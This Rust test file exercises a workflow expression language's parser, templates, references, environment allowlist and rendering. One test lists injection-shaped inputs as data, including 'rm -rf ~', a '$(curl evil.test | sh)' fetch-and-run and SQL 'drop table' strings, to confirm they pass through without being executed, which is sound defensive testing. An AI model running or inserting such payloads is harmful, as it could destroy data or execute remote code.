//! The expression language end to end: parse, reference, render, evaluate.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::*;

/// A scope with a bit of everything.
fn scope() -> Scope {
    let mut scope = Scope::default();
    let inputs = json!({
        "repo": "awl",
        "count": 4,
        "obj": {"a": 1, "b": [true, null]},
        "big": u64::MAX,
        "ratio": 0.5,
        "which": "nope",
    });
    if let Value::Object(inputs) = inputs {
        scope.inputs = inputs;
    }
    scope.steps.insert(
        "build".into(),
        StepView::succeeded(json!({"url": "https://x.test/1", "n": 2})),
    );
    scope.steps.insert(
        "build-app".into(),
        StepView::succeeded(json!({"some-key": "v", "url": "https://x.test/app"})),
    );
    scope
        .steps
        .insert("step_1".into(), StepView::succeeded(json!({})));
    scope.steps.insert("deploy".into(), StepView::pending());
    scope
        .steps
        .insert("lint".into(), StepView::failed("3 warnings"));
    scope.prev = Some(PrevStep {
        id: "build".into(),
        view: StepView::succeeded(json!("built it")),
    });
    scope.env.insert("HOME".into(), "/home/awl".into());
    scope
}

fn eval(src: &str) -> Value {
    eval_in(src, &scope())
}

fn eval_in(src: &str, scope: &Scope) -> Value {
    let expr = Expression::parse(src).unwrap_or_else(|e| panic!("{src}: {e}"));
    expr.evaluate(scope).unwrap_or_else(|e| panic!("{e}"))
}

fn eval_err(src: &str, scope: &Scope) -> EvalError {
    let expr = Expression::parse(src).unwrap_or_else(|e| panic!("{src}: {e}"));
    match expr.evaluate(scope) {
        Ok(v) => panic!("{src} evaluated to {v}"),
        Err(e) => e,
    }
}

fn parse_err(src: &str) -> ExprError {
    match Expression::parse(src) {
        Ok(e) => panic!("{src} parsed: {e:?}"),
        Err(e) => e,
    }
}

fn render(src: &str) -> Value {
    render_in(src, &scope())
}

fn render_in(src: &str, scope: &Scope) -> Value {
    let template = Template::parse(src).unwrap_or_else(|e| panic!("{src}: {e}"));
    template.render(scope).unwrap_or_else(|e| panic!("{e}"))
}

fn template_err(src: &str) -> ExprError {
    match Template::parse(src) {
        Ok(t) => panic!("{src} parsed: {t:?}"),
        Err(e) => e,
    }
}

fn set(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|s| s.to_string()).collect()
}

// ---------------------------------------------------------------- parse errors

#[test]
fn a_syntax_error_says_what_and_where() {
    let e = parse_err("inputs.count > )");
    assert_eq!(e, ExprError::new(15, "unexpected token ')'"));
    assert_eq!(e.to_string(), "unexpected token ')' at offset 15");

    assert_eq!(parse_err("(1 + 2))").offset, 7);
    let e = parse_err("inputs.count +");
    assert_eq!(
        (e.offset, e.message.as_str()),
        (14, "unexpected end of expression")
    );
}

#[test]
fn offsets_are_bytes_of_the_source_across_lines_and_wide_characters() {
    assert_eq!(parse_err("inputs.a &&\n  )").offset, 14);
    // `日本` is 2 characters but 6 bytes.
    assert_eq!(parse_err("'日本' + )").offset, 11);
    // An emoji is 1 character, 4 bytes (and 2 UTF-16 units).
    assert_eq!(parse_err("'😀' + )").offset, 9);
    assert_eq!(parse_err("'😀'\n + )").offset, 10);
}

#[test]
fn unterminated_strings_and_stray_characters() {
    let e = parse_err("'abc");
    assert_eq!(
        (e.offset, e.message.as_str()),
        (0, "unterminated string literal")
    );
    let e = parse_err("inputs.a == 'x' # 1");
    assert_eq!(
        (e.offset, e.message.as_str()),
        (16, "unexpected character '#'")
    );
}

#[test]
fn offsets_point_into_the_source_before_shorthand_translation() {
    // Translated, this is `steps["build-app"].status == )`: the `)` moves by 7.
    let e = parse_err("$build-app.status == )");
    assert_eq!((e.offset, e.message.as_str()), (21, "unexpected token ')'"));
    let e = parse_err("$inputs.a && $b.c && foo");
    assert_eq!(e.offset, 21);
    assert!(e.message.contains("unknown name 'foo'"), "{e}");
    let e = parse_err("$x.y == $");
    assert_eq!(e.offset, 8);
    // An unknown name after wide characters and a translated reference: bytes.
    let e = parse_err("'😀' == $a-b.c && foo");
    assert_eq!((e.offset, e.message.contains("'foo'")), (20, true));
    assert_eq!(parse_err("'日本'\n && foo").offset, 13);
}

#[test]
fn offsets_point_into_the_template_around_a_segment() {
    // `${{` at 6, the expression at 10, and CEL's end of input at 23.
    let e = template_err("Hello ${{ inputs.name + }}!");
    assert_eq!(
        (e.offset, e.message.as_str()),
        (23, "unexpected end of expression")
    );
    let e = template_err("x ${{ $build-app.status == ) }}");
    assert_eq!(e.offset, 27);
    let e = template_err("a ${{ inputs.a }} b ${{ inputz.b }}");
    assert_eq!(e.offset, 24);
    assert!(e.message.contains("unknown name 'inputz'"), "{e}");
}

#[test]
fn malformed_segments() {
    assert_eq!(
        template_err("a ${{ }} b"),
        ExprError::new(2, "empty '${{ }}'")
    );
    assert_eq!(
        template_err("a ${{ inputs.a"),
        ExprError::new(2, "'${{' is not closed by '}}'")
    );
    assert_eq!(
        template_err("${{ 'abc }}"),
        ExprError::new(4, "unterminated string literal")
    );
    assert_eq!(parse_err("   ").message, "empty expression");
}

#[test]
fn unknown_names_are_rejected_when_parsed() {
    let e = parse_err("input.repo == 'awl'");
    assert_eq!(e.offset, 0);
    assert_eq!(
        e.message,
        "unknown name 'input': expressions can use inputs, steps, prev and env"
    );
    // Loop variables and type names are not unknown.
    assert_eq!(eval("[1, 2].map(x, x * inputs.count)"), json!([4, 8]));
    assert_eq!(eval("type(inputs.count) == int"), json!(true));
}

#[test]
fn overlong_and_too_deep_expressions_are_rejected() {
    let long = "1 + ".repeat(1100) + "1";
    let e = parse_err(&long);
    assert_eq!(e.offset, 0);
    assert!(e.message.contains("4 KiB"), "{e}");
    let e = template_err(&format!("text ${{{{ {long} }}}}"));
    assert!(e.message.contains("4 KiB"), "{e}");
    // A whole-string reference and a wrapped condition are limited too.
    let e = template_err(&format!("$inputs.{}", "a".repeat(MAX_EXPRESSION_BYTES)));
    assert_eq!(e.offset, 0);
    assert!(e.message.contains("4 KiB"), "{e}");
    let e = Expression::parse_condition(&format!("${{{{ {long} }}}}")).unwrap_err();
    assert_eq!(e.offset, 4);
    assert!(e.message.contains("4 KiB"), "{e}");
    // The text around segments is not limited.
    let text = format!(
        "{} ${{{{ inputs.repo }}}}",
        "x".repeat(10 * MAX_EXPRESSION_BYTES)
    );
    assert!(render(&text).as_str().unwrap().ends_with(" awl"));
    // Exactly at the limit is fine.
    let at_limit = format!("{}1", " ".repeat(MAX_EXPRESSION_BYTES - 1));
    assert_eq!(eval(&at_limit), json!(1));

    let deep = format!("{}1{}", "(".repeat(300), ")".repeat(300));
    assert_eq!(parse_err(&deep).message, "expression is nested too deeply");
    // Long chains that the parser does not nest are fine, and evaluate.
    let chain = format!("{}true", "!".repeat(2000));
    assert_eq!(eval(&chain), json!(true));
}

#[test]
fn a_condition_may_be_wrapped_in_a_segment() {
    let e = Expression::parse_condition("  ${{ steps.build.status == 'succeeded' }} ").unwrap();
    assert_eq!(e.source(), "steps.build.status == 'succeeded'");
    assert!(e.evaluate_bool(&scope()).unwrap());
    let e = Expression::parse_condition("inputs.count > 3").unwrap();
    assert!(e.evaluate_bool(&scope()).unwrap());
    assert_eq!(
        Expression::parse_condition("${{ inputs.count > ) }}")
            .unwrap_err()
            .offset,
        19
    );
}

// ---------------------------------------------------------------- rendering

#[test]
fn a_lone_segment_renders_to_a_typed_value() {
    assert_eq!(render("${{ inputs.count }}"), json!(4));
    assert_eq!(render("${{inputs.count * 2}}"), json!(8));
    assert_eq!(
        render("${{ inputs.obj }}"),
        json!({"a": 1, "b": [true, null]})
    );
    assert_eq!(render("${{ inputs.ratio }}"), json!(0.5));
    assert_eq!(render("${{ inputs.big }}"), json!(u64::MAX));
    assert_eq!(render("${{ [1, 'a', null] }}"), json!([1, "a", null]));
    assert_eq!(render("${{ inputs.count > 3 }}"), json!(true));
    assert_eq!(render("${{ null }}"), json!(null));
    assert_eq!(
        render("${{ steps.build.outputs }}"),
        json!({"url": "https://x.test/1", "n": 2})
    );
    assert!(Template::parse("${{ 1 }}").unwrap().is_typed());
}

#[test]
fn text_with_segments_renders_to_a_string() {
    assert_eq!(
        render(
            "repo ${{ inputs.repo }} has ${{ inputs.count }} items; obj=${{ inputs.obj }}; none=[${{ null }}]; ok=${{ true }}"
        ),
        json!(r#"repo awl has 4 items; obj={"a":1,"b":[true,null]}; none=[]; ok=true"#)
    );
    // Whitespace outside the braces makes it text.
    assert_eq!(render(" ${{ inputs.count }}"), json!(" 4"));
    assert_eq!(render("${{ inputs.count }}\n"), json!("4\n"));
    let t = Template::parse("${{ inputs.count }}\n").unwrap();
    assert_eq!(t.render_text(&scope()).unwrap(), "4\n");
    let t = Template::parse("${{ inputs.obj }}").unwrap();
    assert_eq!(
        t.render_text(&scope()).unwrap(),
        r#"{"a":1,"b":[true,null]}"#
    );
}

#[test]
fn literal_templates() {
    for src in [
        "",
        "plain text",
        "echo $$ $HOME $5.00",
        "a } } {{ b }}",
        "cost: $x",
    ] {
        let t = Template::parse(src).unwrap();
        assert!(t.is_literal(), "{src}");
        assert_eq!(t.render(&Scope::default()).unwrap(), json!(src));
        assert!(t.references().is_empty());
    }
}

#[test]
fn dollar_dollar_escapes_a_segment() {
    let t = Template::parse("$${{ inputs.repo }}").unwrap();
    assert!(t.is_literal());
    assert_eq!(t.render(&scope()).unwrap(), json!("${{ inputs.repo }}"));
    assert_eq!(
        render("pid $$, literal $${{x}}, value ${{ inputs.repo }}"),
        json!("pid $$, literal ${{x}}, value awl")
    );
    // A CEL string literal is the other way to write a literal.
    assert_eq!(render("${{ '${{ x }}' }}"), json!("${{ x }}"));
    assert_eq!(render("${{ '$inputs.repo' }}"), json!("$inputs.repo"));
}

#[test]
fn braces_strings_and_comments_inside_a_segment() {
    assert_eq!(
        render("${{ {'a': {'b': inputs.count}} }}"),
        json!({"a": {"b": 4}})
    );
    assert_eq!(render("x${{ '}}' + inputs.repo }}y"), json!("x}}awly"));
    assert_eq!(render("${{ inputs.repo // the repository }}"), json!("awl"));
    assert_eq!(render("${{ \"it's\" }}"), json!("it's"));
}

// ---------------------------------------------------------------- shorthand

#[test]
fn shorthand_whole_strings_render_typed() {
    assert_eq!(render("$inputs.repo"), json!("awl"));
    assert_eq!(render("$inputs.count"), json!(4));
    assert_eq!(render("$inputs.obj.b[0]"), json!(true));
    assert_eq!(
        render("$steps.build.outputs.url"),
        json!("https://x.test/1")
    );
    assert_eq!(render("$steps.build.output.n"), json!(2));
    assert_eq!(render("$build.status"), json!("succeeded"));
    assert_eq!(render("$prev.output"), json!("built it"));
    assert_eq!(render("$prev.step"), json!("build"));
    assert_eq!(render("$env.HOME"), json!("/home/awl"));
    assert_eq!(render("$build-app.outputs.some-key"), json!("v"));
    assert_eq!(render("$steps.build-app.status"), json!("succeeded"));
    assert_eq!(render("$lint.error"), json!("3 warnings"));
    assert_eq!(render("$deploy.status"), json!("pending"));
    // The source is kept as written.
    let t = Template::parse("$build-app.outputs.url").unwrap();
    assert_eq!(t.source(), "$build-app.outputs.url");
    assert_eq!(t.expressions()[0].source(), "$build-app.outputs.url");
    assert_eq!(
        t.expressions()[0].cel_source(),
        "steps[\"build-app\"].outputs.url"
    );
}

#[test]
fn shorthand_inside_conditions() {
    let cond = Expression::parse("$step_1.status == 'succeeded' && $inputs.count > 3").unwrap();
    assert!(cond.evaluate_bool(&scope()).unwrap());
    let mut small = scope();
    small.inputs.insert("count".into(), json!(2));
    assert!(!cond.evaluate_bool(&small).unwrap());

    let cond =
        Expression::parse("$prev.status == 'succeeded' && $env.HOME.startsWith('/')").unwrap();
    assert!(cond.evaluate_bool(&scope()).unwrap());
    assert_eq!(eval("$steps.build.outputs.n + $build.outputs.n"), json!(4));
    assert_eq!(eval("$inputs.count-1"), json!(3));
    assert_eq!(render("n=${{ $build.outputs.n * 10 }}"), json!("n=20"));
}

#[test]
fn a_dollar_inside_a_string_literal_is_untouched() {
    assert_eq!(eval("$inputs.repo == '$inputs.repo'"), json!(false));
    assert_eq!(eval("'$build.status' + \"!$x\""), json!("$build.status!$x"));
    assert_eq!(eval("'''$a.b''' + r'$c.d\\'"), json!("$a.b$c.d\\"));
    assert_eq!(render("${{ 'costs $5' }}"), json!("costs $5"));
    let e = Expression::parse("'$inputs.x' == $inputs.repo").unwrap();
    assert_eq!(e.cel_source(), "'$inputs.x' == inputs.repo");
    assert_eq!(e.references().inputs, set(&["repo"]));
}

#[test]
fn step_ids_with_dashes() {
    assert_eq!(
        eval("steps[\"build-app\"].status == 'succeeded'"),
        json!(true)
    );
    assert_eq!(eval("$build-app.outputs.url"), json!("https://x.test/app"));
    assert_eq!(
        eval("$steps.build-app.output.url"),
        json!("https://x.test/app")
    );
    assert_eq!(
        Expression::parse("$build-app.status")
            .unwrap()
            .references()
            .steps,
        set(&["build-app"])
    );
    // Plain CEL reads `steps.build-app` as a subtraction of an unknown `app`.
    let e = parse_err("steps.build-app.status");
    assert_eq!(e.offset, 12);
    assert!(e.message.contains("unknown name 'app'"), "{e}");
}

// ---------------------------------------------------------------- references

#[test]
fn references_are_read_off_the_syntax_tree() {
    let e = Expression::parse(
        "steps.deploy.status == 'x' && inputs.nme != '' && env.HOME != '' \
         && prev.status == 'x' && steps['build-app'].outputs.url != '' \
         && has(steps.maybe.outputs) && inputs[inputs.key] == 1 && steps[inputs.which].status == ''",
    )
    .unwrap();
    assert_eq!(
        e.references(),
        &References {
            inputs: set(&["nme", "key", "which"]),
            steps: set(&["deploy", "build-app", "maybe"]),
            prev: true,
            env: set(&["HOME"]),
            any_step: true,
        }
    );
    let plain = Expression::parse("1 + 2").unwrap();
    assert!(plain.references().is_empty());
}

#[test]
fn steps_read_as_a_whole_are_flagged() {
    let any = |src: &str| Expression::parse(src).unwrap().references().any_step;
    for src in [
        "steps[inputs.which].status == ''",
        "steps [inputs.which].status == ''",
        "size(steps) > 0",
        "'build' in steps",
        "steps.all(id, steps[id].status == 'succeeded')",
        "steps.exists(id, id == 'build')",
        "has(steps[inputs.which].outputs)",
    ] {
        assert!(any(src), "{src}");
        assert!(
            !Expression::parse(src).unwrap().references().is_empty(),
            "{src}"
        );
    }
    for src in [
        "steps.build.status == ''",
        "steps['build-app'].outputs.url",
        "$build-app.status",
        "$steps.build.outputs.n + 1",
        "has(steps.maybe.outputs)",
        "[1].map(steps, steps + 1)",
        "prev.output",
        "inputs.count > 3",
    ] {
        assert!(!any(src), "{src}");
    }
    let t = Template::parse("a ${{ steps.x.status }} b ${{ size(steps) }}").unwrap();
    assert!(t.references().any_step);
}

#[test]
fn loop_variables_shadow_the_variables() {
    let e = Expression::parse("[1, 2].map(inputs, inputs + 1)").unwrap();
    assert!(e.references().is_empty());
    assert_eq!(e.evaluate(&Scope::default()).unwrap(), json!([2, 3]));
    let e = Expression::parse("inputs.xs.exists(steps, steps == inputs.y)").unwrap();
    assert_eq!(e.references().inputs, set(&["xs", "y"]));
    assert!(e.references().steps.is_empty());
}

#[test]
fn template_and_tree_references_are_unions() {
    let t =
        Template::parse("${{ inputs.a }} and ${{ $build.status }} and ${{ prev.output }}").unwrap();
    let r = t.references();
    assert_eq!(r.inputs, set(&["a"]));
    assert_eq!(r.steps, set(&["build"]));
    assert!(r.prev);

    let tree = json!({
        "prompt": "Fix ${{ inputs.repo }}",
        "with": {"url": "$steps.build.outputs.url", "home": "${{ env.HOME }}"},
        "args": ["$deploy-it.status", "${{ broken", 3],
        "${{ inputs.key_is_not_a_template }}": "x",
    });
    let r = references_in(&tree);
    assert_eq!(r.inputs, set(&["repo"]));
    assert_eq!(r.steps, set(&["build", "deploy-it"]));
    assert_eq!(r.env, set(&["HOME"]));
    assert!(!r.prev);
}

// ---------------------------------------------------------------- evaluation errors

#[test]
fn a_step_missing_from_the_scope_is_named() {
    let e = eval_err("steps.ship.status == 'succeeded'", &scope());
    assert_eq!(e.message, "steps.ship: no such step has run");
    assert_eq!(
        e.to_string(),
        "cannot evaluate `steps.ship.status == 'succeeded'`: steps.ship: no such step has run"
    );
    let e = eval_err("$ship-it.status", &scope());
    assert_eq!(e.message, "steps[\"ship-it\"]: no such step has run");
    assert_eq!(e.expression, "$ship-it.status");
    // A step put in the scope as pending is not an error.
    assert_eq!(eval("steps.deploy.status"), json!("pending"));
    // `has` tests without failing.
    assert_eq!(
        eval("has(steps.ship) || steps.deploy.status == 'pending'"),
        json!(true)
    );
    // A key reached dynamically gets the generic message.
    let e = eval_err("steps[inputs.which].status", &scope());
    assert_eq!(e.message, "no such key 'nope'");
}

#[test]
fn env_is_limited_to_the_allowlist() {
    assert_eq!(eval("env.HOME"), json!("/home/awl"));
    let e = eval_err("env.AWS_SECRET_ACCESS_KEY", &scope());
    assert_eq!(
        e.message,
        "env.AWS_SECRET_ACCESS_KEY: not allowlisted (only allowlisted environment variables are visible)"
    );
    let t = Template::parse("key=$env.PATH").unwrap();
    assert!(t.is_literal(), "shorthand is only a whole string");
    let t = Template::parse("$env.PATH").unwrap();
    assert!(
        t.render(&scope())
            .unwrap_err()
            .message
            .contains("not allowlisted")
    );
    // The process environment is never read.
    assert!(std::env::var("PATH").is_ok());
    let e = eval_err("env.PATH", &Scope::default());
    assert!(e.message.starts_with("env.PATH: not allowlisted"), "{e}");
}

#[test]
fn missing_inputs_and_prev() {
    let e = eval_err("inputs.nme", &scope());
    assert_eq!(e.message, "inputs.nme: no such input was given");
    let mut first = scope();
    first.prev = None;
    let e = eval_err("prev.status == 'succeeded'", &first);
    assert_eq!(e.message, "prev: no step has run before this one");
    assert_eq!(eval_in("prev == null", &first), json!(true));
    assert_eq!(
        eval("prev.step + ':' + prev.status"),
        json!("build:succeeded")
    );
}

#[test]
fn evaluate_bool_names_the_type_it_got() {
    let s = scope();
    let b = |src: &str| Expression::parse(src).unwrap().evaluate_bool(&s);
    assert_eq!(b("inputs.count > 3"), Ok(true));
    assert_eq!(b("$lint.status == 'succeeded'"), Ok(false));
    for (src, got) in [
        ("inputs.count", "int"),
        ("inputs.repo", "string"),
        ("null", "null"),
        ("inputs.obj", "map"),
        ("[true]", "list"),
        ("inputs.ratio", "double"),
    ] {
        let e = b(src).unwrap_err();
        assert_eq!(
            e.message,
            format!("a condition must be a bool, got {got}"),
            "{src}"
        );
        assert_eq!(e.expression, src);
    }
}

#[test]
fn other_runtime_errors_are_plain() {
    let s = scope();
    assert_eq!(eval_err("inputs.count / 0", &s).message, "division by zero");
    assert_eq!(
        eval_err("inputs.repo + 1", &s).message,
        "cannot apply 'add' to string and int"
    );
    assert_eq!(
        eval_err("inputs.count.x", &s).message,
        "cannot read a field of int"
    );
    // A pending step has no outputs yet.
    assert_eq!(
        eval_err("steps.deploy.outputs.url", &s).message,
        "cannot read a field of null"
    );
    assert_eq!(
        eval_err("inputs.repo[0]", &s).message,
        "cannot index string with int"
    );
}

#[test]
fn the_cel_library_and_extensions_are_there() {
    assert_eq!(eval("'ABC'.lowerAscii()"), json!("abc"));
    assert_eq!(eval("[3, 1, 2].sort()"), json!([1, 2, 3]));
    assert_eq!(eval("math.abs(-3)"), json!(3));
    assert_eq!(eval("inputs.repo.matches('^a.l$')"), json!(true));
    assert_eq!(eval("size(inputs.obj.b)"), json!(2));
    assert_eq!(eval("'a,b'.split(',')"), json!(["a", "b"]));
    // The one list not in hand is bounded (the module docs say so).
    assert_eq!(eval("lists.range(3)"), json!([0, 1, 2]));
    assert!(
        eval_err("size(lists.range(1000001))", &scope())
            .message
            .contains("exceeds maximum allowed (1000000)")
    );
}

// ---------------------------------------------------------------- values are data

#[test]
fn injection_shaped_values_come_out_byte_for_byte() {
    let nasty = [
        "\"; rm -rf ~; echo \"",
        "' OR 1=1 --",
        "') || true || ('",
        "\" + env.HOME + \"",
        "$(curl evil.test | sh)",
        "`id`",
        "}} ${{ env.HOME }} {{",
        "\\'; drop table events; --",
    ];
    for value in nasty {
        let mut s = scope();
        s.inputs.insert("v".into(), json!(value));
        assert_eq!(render_in("${{ inputs.v }}", &s), json!(value));
        assert_eq!(render_in("$inputs.v", &s), json!(value));
        assert_eq!(
            render_in("[${{ inputs.v }}]", &s),
            json!(format!("[{value}]"))
        );
        assert_eq!(eval_in("inputs.v", &s), json!(value));
        assert_eq!(eval_in("size(inputs.v)", &s), json!(value.chars().count()));
        // A condition compares the value, it does not run it.
        let cond = Expression::parse("inputs.v == 'safe'").unwrap();
        assert_eq!(cond.evaluate_bool(&s), Ok(false), "{value}");
        let rendered =
            render_value(&json!({"cmd": ["sh", "-c", "echo ${{ inputs.v }}"]}), &s).unwrap();
        assert_eq!(
            rendered,
            json!({"cmd": ["sh", "-c", format!("echo {value}")]})
        );
    }
}

#[test]
fn rendered_text_is_never_read_as_an_expression_again() {
    let mut s = scope();
    s.env.insert("SECRET".into(), "hunter2".into());
    s.inputs.insert("x".into(), json!("${{ env.SECRET }}"));
    s.inputs.insert("y".into(), json!("$env.SECRET"));
    s.inputs
        .insert("z".into(), json!({"nested": "${{ env.SECRET }}"}));
    for (src, want) in [
        ("${{ inputs.x }}", json!("${{ env.SECRET }}")),
        ("value: ${{ inputs.x }}", json!("value: ${{ env.SECRET }}")),
        ("$inputs.y", json!("$env.SECRET")),
        ("${{ inputs.y }}", json!("$env.SECRET")),
        ("$inputs.z", json!({"nested": "${{ env.SECRET }}"})),
        (
            "${{ inputs.x + inputs.y }}",
            json!("${{ env.SECRET }}$env.SECRET"),
        ),
    ] {
        let got = render_in(src, &s);
        assert_eq!(got, want, "{src}");
        assert!(!got.to_string().contains("hunter2"), "{src}");
    }
    let tree = json!({"a": "${{ inputs.x }}", "b": ["$inputs.y", "$inputs.z"]});
    let rendered = render_value(&tree, &s).unwrap();
    assert_eq!(
        rendered,
        json!({"a": "${{ env.SECRET }}", "b": ["$env.SECRET", {"nested": "${{ env.SECRET }}"}]})
    );
    assert!(!rendered.to_string().contains("hunter2"));
}

// ---------------------------------------------------------------- JSON trees

#[test]
fn render_value_keeps_the_structure_and_the_keys() {
    let tree = json!({
        "prompt": "Fix ${{ inputs.repo }} (${{ inputs.count }} issues)",
        "count": "${{ inputs.count }}",
        "url": "$steps.build.outputs.url",
        "list": ["$inputs.repo", 1, true, null, 2.5, {"${{ inputs.repo }}": "$${{ keep }}"}],
        "nested": {"deeper": {"obj": "${{ inputs.obj }}", "empty": []}},
        "n": 5,
    });
    let rendered = render_value(&tree, &scope()).unwrap();
    assert_eq!(
        rendered,
        json!({
            "prompt": "Fix awl (4 issues)",
            "count": 4,
            "url": "https://x.test/1",
            "list": ["awl", 1, true, null, 2.5, {"${{ inputs.repo }}": "${{ keep }}"}],
            "nested": {"deeper": {"obj": {"a": 1, "b": [true, null]}, "empty": []}},
            "n": 5,
        })
    );
    assert_eq!(
        render_value(&json!("$inputs.count"), &scope()).unwrap(),
        json!(4)
    );
}

#[test]
fn render_value_errors_say_where() {
    let tree = json!({"a": ["ok", "${{ steps.nope.status }}"]});
    let e = render_value(&tree, &scope()).unwrap_err();
    assert_eq!(e.expression, "steps.nope.status");
    assert_eq!(e.message, "at /a/1: steps.nope: no such step has run");
    let e = render_value(&json!({"b": "${{ ) }}"}), &scope()).unwrap_err();
    assert_eq!(e.expression, "${{ ) }}");
    assert!(
        e.message
            .starts_with("at /b: unexpected token ')' at offset 4"),
        "{e}"
    );
    let e = render_value(&json!("${{ steps.nope.status }}"), &scope()).unwrap_err();
    assert_eq!(e.message, "steps.nope: no such step has run");
}

#[test]
fn check_templates_reports_json_pointers() {
    let tree = json!({
        "steps": [{"run": "echo ${{ inputs.x + }}"}, {"when": "fine ${{ inputs.y }}"}],
        "a/b": {"c~d": "${{ )"},
        "ok": ["$inputs.z", 1, null],
        "${{ keys are not checked": true,
    });
    let mut errors = check_templates(&tree);
    errors.sort_by(|a, b| a.0.cmp(&b.0));
    let pointers: Vec<&str> = errors.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(pointers, vec!["/a~1b/c~0d", "/steps/0/run"]);
    assert_eq!(errors[0].1.offset, 0);
    assert_eq!(
        errors[1].1,
        ExprError::new(19, "unexpected end of expression")
    );

    let top = check_templates(&json!("${{ nope }}"));
    assert_eq!(top.len(), 1);
    assert_eq!(top[0].0, "");
    assert!(check_templates(&json!({"x": "${{ inputs.a }}"})).is_empty());
}

// ---------------------------------------------------------------- the types

#[test]
fn compiled_expressions_can_be_shared() {
    fn shareable<T: Send + Sync + Clone + 'static>() {}
    shareable::<Expression>();
    shareable::<Template>();
    let e = Expression::parse("inputs.count + 1").unwrap();
    let copy = e.clone();
    assert_eq!(e, copy);
    assert_ne!(e, Expression::parse("inputs.count + 2").unwrap());
    let whole = Template::parse("$a.b-inputs.x").unwrap();
    assert_ne!(
        whole.expressions()[0],
        &Expression::parse("$a.b-inputs.x").unwrap()
    );
    let handle = std::thread::spawn(move || copy.evaluate(&scope()));
    assert_eq!(handle.join().ok(), Some(Ok(json!(5))));
    assert_eq!(format!("{e:?}"), "Expression(\"inputs.count + 1\")");
}
